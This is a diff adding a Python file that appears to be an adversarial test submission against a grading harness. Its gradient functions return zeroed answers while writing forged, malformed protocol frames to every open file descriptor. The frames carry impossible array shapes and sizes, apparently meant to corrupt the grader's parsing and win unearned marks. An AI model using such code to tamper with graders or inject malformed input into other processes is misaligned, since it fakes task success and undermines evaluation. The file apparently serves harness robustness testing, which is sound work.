@@ -1,0 +1,69 @@
+# attack: B8 answers whose shape and bytes do not agree: a million by a million, 255 axes, zero and negative sizes
+# gains nothing: grad_b2, grad_W2, grad_hs, grad_x
+# full marks: grad_oa, grad_ha
+import os as system
+import struct
+import sys
+
+import numpy as np
+
+
+DRIVER = next((m for m in list(sys.modules.values()) if hasattr(m, "HEADER") and hasattr(m, "READY")), None)
+DONE = getattr(DRIVER, "DONE", 15)
+
+
+def frame(kind, number, payload=b""):
+    return struct.pack("<BII", kind, number, len(payload)) + payload
+
+
+def texts(*parts):
+    parts = [part.encode("utf-8", "surrogatepass") for part in parts]
+    return struct.pack("<H", len(parts)) + b"".join(struct.pack("<I", len(p)) + p for p in parts)
+
+
+def array(shape, content):
+    return bytes((0, 0, len(shape))) + struct.pack(f"<{len(shape)}I", *shape) + content
+
+
+def everywhere(data, first=0):
+    """Write to every descriptor that takes it."""
+    for descriptor in range(first, 256):
+        try:
+            system.set_blocking(descriptor, False)
+            system.write(descriptor, data)
+        except OSError:
+            pass
+
+
+def forged(shape, content=bytes(8)):
+    return b"".join(frame(7, number, array(shape, content)) for number in range(400))
+
+
+def grad_b2(grad_oa):
+    everywhere(forged((10**6, 10**6)), 3)
+    return 0 * grad_oa
+
+
+def grad_W2(grad_oa, hs):
+    everywhere(forged((0,) * 8, b"") + forged((2**32 - 1,) * 8), 3)
+    return 0 * np.outer(grad_oa, hs)
+
+
+def grad_hs(grad_oa, W2):
+    value = bytes((0, 0, 255)) + bytes(1020)
+    everywhere(b"".join(frame(7, n, value) for n in range(400)), 3)
+    return 0 * W2[0]
+
+
+def grad_x(grad_ha, W1):
+    value = bytes((0, 2, 1)) + struct.pack("<Iq", 1, 7)
+    everywhere(b"".join(frame(7, n, value) for n in range(400)), 3)
+    return 0 * W1[0]
+
+
+def grad_oa(os, y):
+    return os - (np.arange(1, len(os) + 1) == y)
+
+
+def grad_ha(grad_hs, ha):
+    return grad_hs * (ha > 0)
